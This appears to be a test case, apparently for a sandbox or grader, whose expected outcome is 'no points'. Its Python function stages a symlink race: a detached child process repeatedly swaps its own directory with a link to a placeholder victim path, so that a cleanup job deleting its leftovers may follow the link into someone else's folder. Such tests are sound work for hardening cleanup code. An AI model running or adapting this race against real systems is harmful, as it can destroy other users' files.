"""Exchanges a folder of its own and a link to somebody's folder all the time, for whoever wipes what it leaves.

Expected: no points
"""

import os
import time


def write_link_race(x):
    os.makedirs("deep/inside", exist_ok=True)
    open("deep/inside/file", "w").close()
    os.symlink(os.path.dirname("@victim@"), "other")
    os.symlink("@victim@", "deep/inside/link")
    if os.fork() == 0:
        os.setsid()
        until = time.monotonic() + 5
        while time.monotonic() < until:
            try:
                os.rename("deep", "kept")
                os.rename("other", "deep")
                os.rename("deep", "other")
                os.rename("kept", "deep")
            except OSError:
                continue
    time.sleep(0.05)
    os._exit(0)
